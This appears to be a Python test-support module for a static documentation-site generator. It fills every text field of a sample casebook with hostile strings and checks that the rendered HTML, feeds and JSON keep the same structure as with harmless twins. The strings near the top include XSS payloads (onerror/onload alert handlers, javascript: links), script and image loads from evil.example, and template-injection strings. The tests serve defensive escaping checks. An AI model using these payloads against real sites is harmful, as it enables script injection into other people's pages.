"""A casebook in which every text is hostile, and the structure of pages without their texts.

The fields are read from the model. Each text has its own number, so that a leak shows where it was
written. Each has a harmless twin that has to produce the same pages.
"""

from __future__ import annotations

import copy
import json
import re
from collections import Counter
from collections.abc import Iterator
from dataclasses import dataclass, field
from functools import cache
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit
from xml.etree import ElementTree as ET

import yaml
from markdown import Markdown
from selectolax.lexbor import LexborHTMLParser

from abicase.catalogue.loading import load
from abicase.schema.casebook import Casebook
from abicase.schema.part import Part
from abicase.schema.records import KINDS, Permalinks
from abicase.schema.shapes import Shape, bare, fields_of, part_of, parts_below, parts_in, shape_of
from abicase.schema.words import EventWords, FigureWords
from conftest import SMALL

# Hostile texts and their harmless twins. In both, § is the number.
# Markdown turns both into the same structure.
_SHORT = [
    ('Q§ "><svg onload=alert(§)><img src=//evil.example/§ onerror=alert(§)>', "Q§ img"),
    ("Q§ </script></title></textarea><script src=https://evil.example/§></script>", "Q§ script"),
    ("Q§ [x](javascript:alert(§)) ![y](//evil.example/§.png) <https://evil.example/§>", "Q§ x y"),
    ("Q§ {: onclick=alert(§) .mermaid } { #q§ onclick=alert(§) } {{ 7*§ }} {% raw %}", "Q§ click"),
    ("Q§ &lt;img src=x onerror=alert(§)&gt; &#60;b&#62; ]]> --> <!-- <?x ?> `<i>`", "Q§ b img"),
    ("# Q§ *[Q§]: javascript:alert(§) **b** _i_ ~~s~~ ==m== ^^u^^ :smile: $a$ [[w]]", "· Q§ abbr"),
    ("Q§ ' onmouseover='alert(§)' x=\" style=\"background:url(//evil.example/§)", "Q§ over"),
    ("!!! note Q§ \\<b\\> &amp;lt;b&amp;gt; 1. - + > | a | b | https://evil.example/§", "0 Q§"),
]
_PROSE = [
    ('Q§ `"><img src=//evil.example/§ onerror=alert(§)>` {: onclick=alert(§) }', "Q§ `code` x"),
    ("Q§ &lt;img src=x onerror=alert(§)&gt; &#60;b onclick=alert(§)&#62; ]]> <\\b>", "Q§ x"),
    ("Q§\n\n    <script>alert(§)</script> { #q§ }\n\nx { onclick=alert(§) }", "Q§\n\n    y\n\nx"),
    ("Q§\n\n1. {{ 7*§ }} { onclick=alert(§) }\n2. {% raw %}\n\n{: #q§ }", "Q§\n\n1. x\n2. y\n\nz"),
    ("Q§ [*a* `<i>`](https://x.example/§?'onload='x&lt;) x", "Q§ [*a* `i`](https://x.example/§) x"),
    ("Q§ {{ 7*§ }} {% include 'mkdocs.yml' %} <% 1 %> ${1} { onclick=alert(§) }", "Q§ macro"),
    (
        "Q§ [a][b] x\n\n[b]: https://x.example/§ 'x\" onclick=alert(§)'",
        "Q§ [a](https://x.example/) x",
    ),
    ("Q§\n\n```\n<script>alert(§)</script> {{ 7*§ }}\n```", "Q§\n\n```\ny\n```"),
    ('Q§\n\n```c" onclick=alert(§) x="\nint\n```', "Q§\n\n```\nint\n```"),
    (
        "Q§\n\n- <https://x.example/§?'onload='x>\n- [x](#first 'y\" onclick=z')",
        "Q§\n\n- <https://x.example/§>\n- [x](#first)",
    ),
    ("Q§ javascript:alert(§) onerror=alert(§) //evil.example data:text/html,§", "Q§ scheme"),
]
_FORMED = [
    ("'onclick=alert(§)'\"&lt;{{7*7}}@evil.example", "'q§@evil.example"),
    ("https://x.example/§?'onload='alert(§)&lt;b&gt;", "https://x.example/§"),
    ("https://x.example/§?'onload='alert(§)&lt;&q={commit}", "https://x.example/§/{commit}"),
    (
        "https://x.example/§?'onload='alert(§)&lt;&q={message_id}",
        "https://x.example/§/{message_id}",
    ),
    ("https://x.example/§?'onload='alert(§)&q={at}/{path}", "https://x.example/§/{at}/{path}"),
    ("javascript:alert(§)", "j§"),
    ("\u202eQ§", "Q§"),
    ("Q§\u0007\u001b[31m", "Q§"),
]
TEXTS = [
    ("\n\n".join(text for text, _ in _PROSE), "\n\n".join(twin for _, twin in _PROSE)),
    (" ".join(text for text, _ in _SHORT), " ".join(twin for _, twin in _SHORT)),
    *_PROSE,
    *_SHORT,
    *_FORMED,
]

Path_ = tuple[Any, ...]


# The fields


def fields(model: type[Part]) -> set[str]:
    """Return the names of all fields of a kind of record that can have a text in any form."""
    return {
        found
        for part in parts_below(model)
        for one in fields_of(part)
        for found in _texts_in(one.shape, f"{part.__name__}.{one.name}")
    }


def _texts_in(shape: Shape, name: str) -> Iterator[str]:
    if shape.kind == "mapping":
        yield f"{name} (key)"
    if shape.of is not None:
        yield from _texts_in(shape.of, name)
    elif not parts_in(shape):
        yield name


@dataclass(frozen=True)
class Leaf:
    """A text in a record."""

    file: str
    path: Path_
    """The keys and numbers that lead to it."""
    field: str
    """Its field, by the name of its class."""
    key: bool = False
    """Whether it is the key of a mapping, not a value."""


def _leaves(
    file: str, shape: Shape, value: Any, path: Path_ = (), label: str = ""
) -> Iterator[Leaf]:
    if isinstance(value, str) and shape.part is not None:  # the one field that stands for all
        label = f"{shape.part.__name__}.{shape.part.alone}"
        shape = bare(shape)
    part = part_of(shape, value)
    if part is not None:
        for one in fields_of(part):
            if one.name in value:
                name = f"{part.__name__}.{one.name}"
                yield from _leaves(file, one.shape, value[one.name], (*path, one.name), name)
    elif shape.of is None or isinstance(value, str):
        yield Leaf(file, path, label)
    elif shape.kind == "mapping":
        yield Leaf(file, (*path, next(iter(value))), f"{label} (key)", key=True)
        for key, inner in value.items():
            yield from _leaves(file, shape.of, inner, (*path, key), label)
    else:
        for number, inner in enumerate(value):
            yield from _leaves(file, shape.of, inner, (*path, number), label)


# The casebook


@dataclass
class Book:
    """A casebook as YAML trees, one for each file."""

    trees: dict[str, Any] = field(default_factory=dict)

    def copy(self) -> Book:
        return Book(copy.deepcopy(self.trees))

    def write(self, root: Path) -> Path:
        """Write it, with every text on a line by itself."""
        for file, tree in self.trees.items():
            (root / file).parent.mkdir(parents=True, exist_ok=True)
            (root / file).write_text(_dumped(tree), encoding="utf-8")
        return root

    def put(self, leaf: Leaf, text: str) -> Path_:
        """Replace a text by another, or add it as a key to the existing ones; return its place."""
        holder: Any = self.trees[leaf.file]
        for key in leaf.path[:-1]:
            holder = holder[key]
        last = leaf.path[-1]
        if leaf.key:
            holder[text] = copy.deepcopy(holder[last])
            return (*leaf.path[:-1], text)
        holder[last] = text
        return leaf.path

    def leaves(self) -> Iterator[Leaf]:
        """Yield all texts."""
        for file, tree in self.trees.items():
            yield from _leaves(file, shape_of(_model(file)), tree)

    def lines(self, file: str) -> dict[int, Path_]:
        """Return the texts of a file in its written form, by their lines."""

        def of(node: yaml.Node, path: Path_) -> Iterator[tuple[int, Path_]]:
            if isinstance(node, yaml.MappingNode):
                for key, value in node.value:
                    yield key.start_mark.line + 1, (*path, key.value)
                    yield from of(value, (*path, key.value))
            elif isinstance(node, yaml.SequenceNode):
                for number, value in enumerate(node.value):
                    yield from of(value, (*path, number))
            else:
                yield node.start_mark.line + 1, path

        node = yaml.compose(_dumped(self.trees[file]), yaml.CSafeLoader)
        assert node is not None
        return dict(of(node, ()))


def _dumped(tree: Any) -> str:
    made: str = yaml.dump(
        tree,
        Dumper=yaml.CSafeDumper,
        default_style='"',
        width=1_000_000,
        allow_unicode=False,
        sort_keys=False,
    )
    return made


def _model(file: str) -> type[Part]:
    if file == "casebook.yml":
        return Casebook
    if file == "permalinks.yml":
        return Permalinks
    return next(model for folder, model in KINDS.values() if file.startswith(f"{folder}/"))


def base() -> Book:
    """Return the small casebook with a value in every field; a new field gets its text here."""
    book = Book(
        {
            path.relative_to(SMALL).as_posix(): yaml.load(path.read_text("utf-8"), yaml.BaseLoader)
            for path in sorted(SMALL.rglob("*.yml"))
        }
    )
    trees = book.trees
    trees["casebook.yml"].update(
        stale_after_days="99999", published_at="https://book.example.org/", allow_http="true"
    )
    trees["casebook.yml"]["second_readings"] = "false"
    preference = {"avoid": ["at no time"], "use": "never", "but_not": ["at no time at all"]}
    trees["casebook.yml"]["house_style"] = [preference]
    event = trees["cases/pour.yml"]["events"][0]
    event["text_checked"] = {
        "on": "2024-05-05",
        "against": [event["sources"][0]],
        "not_reached": [event["sources"][0]],
        "wording": "e69c0c25ab09",
    }
    trees["casebook.yml"]["interfaces"][0].update(review="a function", paths=["src/*"])
    trees["casebook.yml"]["groups"] = [{"id": "shape", "title": "Shape", "about": "what is passed"}]
    trees["casebook.yml"]["finding"] = {
        "text": "Neither is ahead in {cases} cases",
        "axis": "outcome",
        "on": "2024-05-05",
    }
    member = {"name": "int t", "bytes": "4", "padding": "true"}
    trees["casebook.yml"]["mistake"] = {
        "event": "case/pour#first",
        "title": "One struct, two sizes",
        "layouts": [{"name": "small pots", "members": [member]}],
        "steps": [{"when": "2024", "text": "It was [poured](case/pour#first)."}],
    }
    trees["axes/speed.yml"]["caution"] = "By definition."
    trees["casebook.yml"]["documents"] = [
        {"file": "docs/{page}.md", "address": "https://docs.example.org/{page}/"}
    ]
    trees["casebook.yml"]["trees"] = [
        {"id": "mainline", "title": "library", "phrase": "in the library", "home": "true"},
        {"id": "own", "title": "elsewhere"},
    ]
    noun = {"one": "function", "many": "functions", "article": "a"}
    trees["casebook.yml"]["words"] = {
        **{field: dict(noun) for field in ("interface", "kind", "program")},
        "unmerged": "never taken",
        **{
            field: {one.name: f"a word for {one.name}" for one in fields_of(model)}
            for field, model in (("event_kinds", EventWords), ("figures", FigureWords))
        },
    }
    trees["axes/speed.yml"]["on_card"] = "true"
    pattern = trees["patterns/together.yml"]
    pattern["amounts_to"] = "Little."
    pattern["stages"][0]["text"] += " See [steep](case/steep)."
    blog = trees["cases/steep.yml"]["sources"]["blog"]
    blog.update(author="Bea Example", date="2021-04")
    steep = trees["cases/steep.yml"]
    more = {"ignore_case": "true", "result": "2", "what": "of them"}
    steep["sources"]["again"] = {
        "measured": [
            {
                "commits": "v1.0..v1.1",
                "touching": ["src"],
                "also": ["tools"],
                "author": "Ada",
                "message": "pour",
                **dict.fromkeys(("full_history", "no_merges", "invert"), "true"),
                "since": "2020",
                "until": "2021",
                **more,
            },
            {"matches": "pour", "at": "v1.1", "below": ["src"], "count": "lines", **more},
        ],
        "repository": "teapot",
        "checked": "2024-05-01",
        "how": "counted",
    }
    steep["events"][0]["sources"].append("again")
    steep["events"][0]["text"] += " There were 2 of them."
    lesson = copy.deepcopy(trees["lessons/name-the-unit.yml"])
    lesson.update(
        id="ask-first",
        order="2",
        none_found={"looked_at": "all cases", "on": "2024-05-01", "by": "Ada Example"},
    )
    lesson |= {
        "group": "shape",
        "keywords": ["ms_of()"],
        "related": ["name-the-unit"],
        "documented_in": [
            {
                "file": "docs/units.md",
                "section": "Units",
                "checked": "2024-05-01",
                "how": "read at v1.0",
            }
        ],
        "examples": [
            {
                "do": "false",
                "title": "A bare number",
                "language": "c",
                "code": "void pour(int t);\npour(3);",
                "mark": ["1"],
                "caption": "Three of what?",
            }
        ],
        "cite": {
            "ask": "Please name the unit.",
            "why": "Callers guess.",
            "precedent": "case/pour#unit-named",
            "commit": "first-commit",
            "limit": "Names get long.",
        },
        "signs": [
            {
                "line": "int time",
                "note": "A bare number",
                "paths": ["*.h"],
                "unless": {"paths": ["docs/*"], "added": "ms", "said": "in seconds"},
                "example": "int time;",
            },
            {
                "rule": "kind: comment",
                "language": "c",
                "note": "A comment",
                "paths": ["*.c"],
                "example": "/* A comment. */",
            },
        ],
        "checked_by": [{"tool": "ruler", "run": "ruler --all", "finds": "bare numbers"}],
    }
    trees["lessons/ask-first.yml"] = lesson
    for event in trees["cases/steep.yml"]["events"]:
        event["for"] = [*event.get("for", ()), "lesson/ask-first"]
    twice = trees["cases/steep.yml"]["events"][0]
    twice["date"] = trees["cases/pour.yml"]["events"][2]["date"]
    twice["same_as"] = "case/pour#merged"
    twice["for"][0] = {"item": twice["for"][0], "because": "The text names the unit."}
    trees["claims/faster.yml"]["order"] = "1"
    trees["claims/faster.yml"]["assessment"] = {
        "state": "contested",
        "reason": "One case each way.",
        "change": "A third case.",
        "on": "2024-05-01",
    }
    for file, tree in trees.items():
        if file != "casebook.yml":
            tree["draft"] = "false"
    trees["permalinks.yml"] = {
        "many_retired_on": ["2024-01-01"],
        "permalinks": {
            "lesson/name-the-unit": {
                "at": "lessons/name-the-unit/",
                "since": "2023-01-01",
                "wording": "1a2b3c4d5e6f",
                "reworded": "2023-02-01",
            },
            "L/name-the-unit": {"at": "L/name-the-unit/", "since": "2023-01-01"},
            "case/old": _went("cases/old/", state="withdrawn"),
            "case/pour#gone": _went("cases/pour/#gone", state="withdrawn"),
            "lesson/old": _went("lessons/old/", state="moved", to="lesson/name-the-unit"),
            "L/old": {"at": "L/old/", "since": "2023-01-01"},
            "case/pour#both": _went(
                "cases/pour/#both", state="split", to=["case/pour#first", "case/pour#merged"]
            ),
        },
    }
    return book


def _went(at: str, **more: Any) -> dict[str, Any]:
    return {
        "at": at,
        "since": "2023-01-01",
        "on": "2024-01-01",
        "because": "It was wrong.",
        **more,
    }


# The texts that each place accepts


def accepted(book: Book, folder: Path) -> dict[Leaf, list[int]]:
    """Return the numbers of the texts that each leaf accepts according to ``check``."""
    found: dict[Leaf, list[int]] = {leaf: [] for leaf in book.leaves()}
    for number, (text, _) in enumerate(TEXTS):
        for leaf in _accepting(book, list(found), text, folder):
            found[leaf].append(number)
    return found


_FIRST = 1000
"""The first number, so that all have the same length."""


def _accepting(book: Book, leaves: list[Leaf], text: str, folder: Path) -> list[Leaf]:
    """Return the leaves that accept a text, after removing it from the others in rounds."""
    left = leaves
    while left:
        tried, paths = book.copy(), {}
        for number, leaf in enumerate(left):
            paths[leaf] = tried.put(leaf, text.replace("§", str(number + _FIRST)))
        _, problems = load(tried.write(folder))
        at = cache(tried.lines)
        wrong = {
            (file, at(file).get(problem.line))
            for problem in problems
            if problem.severity == "error"
            for file in [Path(problem.file).resolve().relative_to(folder.resolve()).as_posix()]
        }
        if not wrong:
            break
        fewer = [leaf for leaf in left if (leaf.file, paths[leaf]) not in wrong]
        if len(fewer) == len(left):  # an added key causes a problem at another place
            fewer = [leaf for leaf in left if not leaf.key]
        assert len(fewer) < len(left), [str(problem) for problem in problems]
        left = fewer
    return left


# The structure of files without their texts

_SHOWN = {
    *("alt", "aria-label", "content", "data-ac-link", "data-ac-markdown", "placeholder", "title"),
    *("data-ac-case", "data-ac-table", "value"),
}
"""Attributes with texts for people."""
_ADDRESSES = {
    "action",
    "cite",
    "data",
    "formaction",
    "href",
    "poster",
    "src",
    "srcset",
    "xlink:href",
}
_PLACES = {"d", "height", "text-anchor", "transform", "viewbox", "width", "x", "y"}
"""Attributes of drawings, in which the place of one label depends on the length of another."""
_NUMBERS = re.compile(
    r"start|end|(?:translate\()?[-\d. aHhlMmVvZ]*\)?|translate\([-\d. ]*\)rotate\([-\d. ]*\)"
)
_LABELS = {
    ("a", "class", "href"),
    ("path", "class", "d"),
    ("rect", "height", "width", "x", "y"),
    ("text", "text-anchor", "x", "y"),
    ("text", "class", "text-anchor", "x", "y"),
    ("tspan", "class"),
    ("-text",),
}
"""The elements of a drawing's labels, whose number depends on the space."""
_STRING = re.compile(r'"(?:[^"\\]|\\.)*"')

_MARKDOWN = Markdown(extensions=["extra"])

Bones = Counter[tuple[object, ...]]


def bones_of_html(html: str) -> Bones:
    """Return each element with its attributes; addresses count by their scheme and host."""
    tree = LexborHTMLParser(html)
    assert tree.root is not None
    found: Bones = Counter()
    drawn = {node.mem_id for node in tree.css("svg.ac-overview *, svg.ac-reach *")}
    coloured = {node.mem_id for node in tree.css(".highlight code span")}
    for node in tree.root.traverse():
        if node.mem_id in coloured and node.attributes.keys() == {"class"}:
            continue  # other code, other colours
        if node.tag == "wbr" and not node.attributes:
            continue  # a name can wrap after its slashes
        pairs = sorted((name, _kept(name, value or "")) for name, value in node.attributes.items())
        if node.mem_id in drawn and (node.tag, *(name for name, _ in pairs)) in _LABELS:
            assert dict(pairs).get("href", ("", "")) == ("", "")
            continue
        found[str(node.tag), *pairs] += 1
        if node.tag in ("script", "style"):
            found["text", _STRING.sub("", node.text())] += 1
        reply = node.attributes.get("data-ac-markdown")
        if reply:  # it is pasted into Markdown
            found.update(bones_of_html(_MARKDOWN.reset().convert(reply)))
    return found


def _kept(name: str, value: str) -> object:
    if name in _SHOWN or (name.lower() in _PLACES and _NUMBERS.fullmatch(value)):
        return ""
    if name not in _ADDRESSES:
        return value
    parts = urlsplit(value)
    return parts.scheme, parts.netloc


def bones_of_xml(text: str) -> Bones:
    """Return the same for a feed or a sitemap."""
    found: Bones = Counter()
    for element in ET.fromstring(text).iter():
        pairs = sorted((name, _kept(name, value)) for name, value in element.items())
        found[element.tag, *pairs] += 1
    return found


def bones_of_json(text: str, *, html: bool) -> Bones:
    """Return the keys and types of JSON, and the elements of its texts if they are HTML."""
    found: Bones = Counter()

    def walk(value: Any, path: str) -> None:
        found[path, type(value).__name__] += 1
        if isinstance(value, dict):
            for key, inner in value.items():
                walk(inner, f"{path}/{key}")
        elif isinstance(value, list):
            # The number of paths found in an item's texts is not markup.
            for inner in value if path != "/items/paths" else ():
                walk(inner, path)
        elif isinstance(value, str) and html:
            found.update(bones_of_html(value))

    walk(json.loads(text), "")
    return found
